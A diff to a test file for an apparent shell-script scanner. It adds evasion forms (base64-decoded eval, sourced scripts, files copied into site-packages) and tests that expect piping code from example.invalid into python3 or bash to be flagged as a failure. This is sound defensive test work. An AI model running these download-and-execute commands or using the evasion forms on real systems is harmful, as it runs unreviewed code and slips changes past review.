@@ -4,6 +4,7 @@ harness/infrastructure patches are not FAILs; any input up to 10 MB is read."""
 
 from __future__ import annotations
 
+import base64
 from pathlib import Path
 
 import pytest
@@ -66,6 +67,34 @@ def evasion(draw: st.DrawFn) -> tuple[str, str]:
             "patch",
         ),
     ]
+    b64 = base64.b64encode(f"git apply {patch}".encode()).decode()
+    forms += [  # issue 34.9: what a command writes, after variables and functions are resolved
+        (
+            f"{var}=$(python -c 'import {engine}; print({engine}.__spec__.origin)')\n"
+            f'@@install -m 644 /tmp/{name}.py "${var}/x.py"',
+            "patch",
+        ),
+        (
+            f"{var}=$(pip show {engine} | grep Location | cut -d' ' -f2)\n"
+            f'@@cat /tmp/{name}.py > "${var}/{engine}/x.py"',
+            "patch",
+        ),
+        (f"@@git -C /tmp/srt-slurm/../..{site} apply {patch}", "patch"),
+        (f"@@awk -i inplace '{{print}}' {site}/{engine}/{name}.py", "patch"),
+        (f"@@ex -sc '%s/a/b/g|x' {site}/{engine}/{name}.py", "patch"),
+        (
+            f"echo '{engine} @ git+https://github.com/{name}/{engine}' > /tmp/{name}.txt\n"
+            f"@@pip install -r /tmp/{name}.txt",
+            "patch",
+        ),
+        (f'{name}_cp() {{ cp "$@"; }}\n@@{name}_cp /tmp/{name}.py {site}/{engine}/x.py', "patch"),
+        (f"@@vllm serve {name} --hf-overr '{{}}'", "arch"),
+        (f"@@vllm serve {name} --hf_o={{}}", "arch"),
+        (f'@@eval "$(echo {b64} | base64 -d)"', "patch"),
+        (f'{var}="$(echo {b64} | base64 -d)"\n@@eval "${var}"', "patch"),
+        (f'{var}=/tmp/{name}.sh\n@@source "${var}"', "unread"),
+        (f'@@. "${var}/{name}.sh"', "unread"),
+    ]
     form, family = draw(st.sampled_from(forms))
     wrap = draw(st.sampled_from(["", "if", "function", "brace"]))
     lines = form.splitlines()
@@ -112,7 +141,7 @@ def _expected_lines(script: str) -> set[int]:
     return lines
 
 
-@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 @given(evasion())
 def test_every_evasion_form_is_caught_or_warned_at_its_line(case: tuple[str, str]) -> None:
     marked, family = case
@@ -188,3 +217,37 @@ def test_duplicate_keys_are_found_with_both_lines() -> None:
     found, why = duplicates(text)
     assert why is None
     assert [(d.line, d.key, d.first) for d in found] == [(3, "x", 3), (4, "x", 2), (9, "a", 1)]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl -sL https://example.invalid/p.py | python3",
+        "wget -qO- https://example.invalid/p.sh | bash",
+        "python3 <(curl -s https://example.invalid/p.py)",
+    ],
+)
+def test_downloaded_code_run_by_an_interpreter_fails(script: str) -> None:
+    """Issue 34.9: it was a WARN; code nobody reviewed runs in the serving container."""
+    hits = shell_hits("x.sh", script, script.splitlines())
+    assert ("patch: runs downloaded code", FAIL) in {(h.kind, h.severity) for h in hits}
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "if [[ $MODEL_PREFIX == zzz ]] || true; then\n    git apply x.patch\nfi",
+        "if [[ $MODEL_PREFIX == zzz ]]; then echo; fi\n    git apply x.patch",
+        "if ! [[ $MODEL_PREFIX == zzz ]]; then\n    git apply x.patch\nfi",
+    ],
+)
+def test_a_guard_that_does_not_exclude_the_key_keeps_the_hit(script: str) -> None:
+    """Issue 34.9: an `if` whose condition can hold for any key (`|| true`, `!`), or a one-line
+    `if ... fi` above an indented line, was read as excluding every key but `zzz`."""
+    (hit,) = [
+        h for h in shell_hits("x.sh", script, script.splitlines()) if h.kind == "patch: git apply"
+    ]
+    assert hit.guard == ()
+    guarded = "if [[ $MODEL_PREFIX == zzz ]]; then\n    git apply x.patch\nfi"
+    (kept,) = shell_hits("x.sh", guarded, guarded.splitlines())
+    assert kept.guard == (("MODEL_PREFIX", "zzz"),)
